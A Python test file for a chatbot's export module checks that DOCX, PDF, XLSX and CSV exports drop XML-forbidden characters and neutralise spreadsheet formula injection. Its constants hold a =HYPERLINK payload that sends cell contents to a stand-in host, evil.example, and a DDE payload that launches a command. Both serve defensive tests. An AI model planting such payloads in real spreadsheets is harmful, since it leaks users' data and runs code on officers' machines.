"""Hostile text never breaks an export nor runs in an officer's spreadsheet.

A U+FFFF (or any character XML forbids) in one answer used to make that producer's DOCX
and the whole commune's XLSX fail; a product named ``=HYPERLINK(…)`` became a live formula
in the office's sheet, next to other producers' phone numbers. Here a producer types such
text in the chat, and, for what an older version already stored, the rows are written
straight into the database; then every export of the commune is made and read back.
"""

from __future__ import annotations

import csv
from pathlib import Path

import docx
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from bot.core import Assistant
from bot.export import export_application
from bot.reports.applications import export_applications
from bot.reports.table import TableFormat
from bot.services import Services
from bot.settings import Settings
from bot.storage.applications import Status
from knowledge.forms import FieldType
from knowledge.text import nfc
from tests.fuzz.inputs import EMOJI, FORM_VALUES, HTML_LIKE, JUNK_ALPHABETS, MARKED_VALUES
from tests.support.chat import ChatClient
from tests.support.officer_kit import make_officer
from tests.support.registration_script import Step, fill, load_form, start_registration

FORM = load_form()
VAN_THANG = "13864"
EXFILTRATE = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Gạo tám")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = (EXFILTRATE, DDE, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1")
XML_FORBIDDEN = "\x00\x01\x08\x0b\x0c\x0e\x1f\ufffe\uffff"


def xml_safe(text: str) -> str:
    """What XML 1.0 can hold of ``text`` (its production ``Char``), as the export should."""
    return "".join(
        c
        for c in text
        if c in "\t\n\r" or " " <= c <= "\ud7ff" or "\ue000" <= c <= "\ufffd" or c > "\uffff"
    )


@pytest.fixture
def settings(settings: Settings) -> Settings:
    """A whole form is typed faster than a person would: no flood limit in these tests."""
    return settings.model_copy(update={"flood_max_messages": 0})


def nastiest() -> list[str]:
    """The fuzzer's hardest strings that SQLite can hold (lone surrogates it cannot), with
    every character XML forbids and the formulas of the adversarial review."""
    storable = [a for a in JUNK_ALPHABETS if not any("\ud800" <= c <= "\udfff" for c in a)]
    marked = [v.format(m="qzxbcdf") for v in MARKED_VALUES]
    return [
        *storable,
        " ".join(HTML_LIKE),
        "".join(EMOJI),
        *FORM_VALUES,
        *marked,
        f"Mật ong{XML_FORBIDDEN}Vạn Thắng",
        "\uffff",
        "\ufffe\ufffe",
        *FORMULAS,
    ]


async def _submitted(chat: ChatClient, assistant: Assistant, answers: dict[str, Step]) -> int:
    await start_registration(chat)
    await fill(chat, FORM, assistant.services.settings.files_dir, answers=answers)
    await chat.press("Nộp hồ sơ")
    await chat.press("Tôi cam đoan")
    user = await assistant.services.users.get_by_external(chat.channel, chat.user_id)
    assert user is not None
    [app] = await assistant.services.applications.list_for_owner(user.id)
    assert app.status is Status.SUBMITTED
    return app.id


def _docx_text(path: Path) -> str:
    document = docx.Document(str(path))
    paragraphs = [p.text for p in document.paragraphs]
    for table in document.tables:
        paragraphs += [p.text for cell in table._cells for p in cell.paragraphs]
    return "\n".join(paragraphs)


def _sheet(path: Path) -> list[list[tuple[str, object]]]:
    sheet = load_workbook(path).active
    assert sheet is not None
    return [[(c.data_type, c.value) for c in row] for row in sheet.iter_rows()]


# -- characters XML forbids ------------------------------------------------------------


async def test_characters_xml_forbids_are_dropped_where_text_enters(
    assistant: Assistant, chat: ChatClient, tmp_path: Path
) -> None:
    app_id = await _submitted(
        chat,
        assistant,
        {
            "unit_name": Step(send="HTX\uffff Nông nghiệp\ufffe Vạn Thắng"),
            "product_name": Step(send="Gạo\x0b tám\x1f U Minh\uffff"),
        },
    )
    answers = await assistant.services.applications.get_answers(app_id)
    assert answers["unit_name"].value == "HTX Nông nghiệp Vạn Thắng"
    assert answers["product_name"].value == "Gạo tám U Minh"
    docx_path, pdf_path = await export_application(
        assistant.services, FORM, app_id, out_dir=tmp_path
    )
    assert "Gạo tám U Minh" in _docx_text(docx_path)
    assert "Gạo tám U Minh" in " ".join(
        (p.extract_text() or "") for p in PdfReader(str(pdf_path)).pages
    )


async def _store_nasty_applications(services: Services, values: list[str]) -> list[int]:
    """What an older version may have stored: one application per string, every text
    answer of it that string, written without passing through the chat."""
    text_fields = [f.id for f in FORM.fields if f.type in (FieldType.TEXT, FieldType.LONG_TEXT)]
    ids: list[int] = []
    for number, value in enumerate(values):
        owner, _ = await services.users.touch("test", f"nasty{number}", f"Hộ {value[:20]}")
        app = await services.applications.save_new(owner.id, VAN_THANG)
        for field_id in text_fields:
            await services.applications.save_answer(app.id, field_id, value)
        await services.applications.save_answer(app.id, "commune", VAN_THANG)
        await services.applications.save_status(app.id, Status.SUBMITTED)
        ids.append(app.id)
    return ids


async def test_every_export_survives_the_nastiest_stored_strings(
    assistant: Assistant, tmp_path: Path
) -> None:
    services = assistant.services
    values = nastiest()
    ids = await _store_nasty_applications(services, values)
    for app_id, value in zip(ids, values, strict=True):
        docx_path, pdf_path = await export_application(services, FORM, app_id, out_dir=tmp_path)
        shown = nfc(xml_safe(value)).strip()
        text = _docx_text(docx_path)
        assert not any(c in text for c in XML_FORBIDDEN)
        if shown and shown.isprintable():
            assert shown in text, value
        assert PdfReader(str(pdf_path)).pages, value

    xlsx, count = await export_applications(
        services, FORM, [VAN_THANG], TableFormat.XLSX, tmp_path / "xa.xlsx"
    )
    assert count == len(values)
    rows = _sheet(xlsx)
    header = [value for _, value in rows[0]]
    column = header.index("Tên sản phẩm")
    names = [row[column] for row in rows[1:]]
    assert [value or "" for _, value in names] == [nfc(xml_safe(v)) for v in values]
    assert all(kind == "s" for kind, value in names if value)  # text, never a formula

    csv_path, _ = await export_applications(
        services, FORM, [VAN_THANG], TableFormat.CSV, tmp_path / "xa.csv"
    )
    with csv_path.open(encoding="utf-8-sig", newline="") as file:
        assert len(list(csv.reader(file))) == len(values) + 1


# -- formulas --------------------------------------------------------------------------


async def test_a_product_named_like_a_formula_is_text_in_the_officers_xlsx(
    assistant: Assistant, chat: ChatClient
) -> None:
    await _submitted(
        chat,
        assistant,
        {"product_name": Step(send=EXFILTRATE), "unit_name": Step(send=DDE)},
    )
    await make_officer(assistant.services, "cb", VAN_THANG)
    officer = ChatClient(assistant, "cb")
    await officer.send("/canbo")
    await officer.press("Xuất Excel")
    [reply] = officer.last
    assert reply.file is not None
    rows = _sheet(reply.file.path)
    header = [value for _, value in rows[0]]
    [row] = rows[1:]
    assert row[header.index("Tên sản phẩm")] == ("s", EXFILTRATE)  # shown, never run
    assert row[header.index("Tên đơn vị")] == ("s", DDE)
    assert all(kind != "f" for row in rows for kind, _ in row)


async def test_formulas_are_quoted_in_the_csv_and_kept_as_text_in_the_xlsx(
    assistant: Assistant, tmp_path: Path
) -> None:
    services = assistant.services
    await _store_nasty_applications(services, list(FORMULAS))
    csv_path, _ = await export_applications(
        services, FORM, [VAN_THANG], TableFormat.CSV, tmp_path / "xa.csv"
    )
    with csv_path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    column = rows[0].index("Tên sản phẩm")
    assert [row[column] for row in rows[1:]] == ["'" + f for f in FORMULAS]
    dangerous = tuple("=+-@\t\r")
    assert not any(cell.startswith(dangerous) for row in rows for cell in row)

    xlsx, _ = await export_applications(
        services, FORM, [VAN_THANG], TableFormat.XLSX, tmp_path / "xa.xlsx"
    )
    rows_x = _sheet(xlsx)
    column = [value for _, value in rows_x[0]].index("Tên sản phẩm")
    assert [row[column] for row in rows_x[1:]] == [("s", f) for f in FORMULAS]
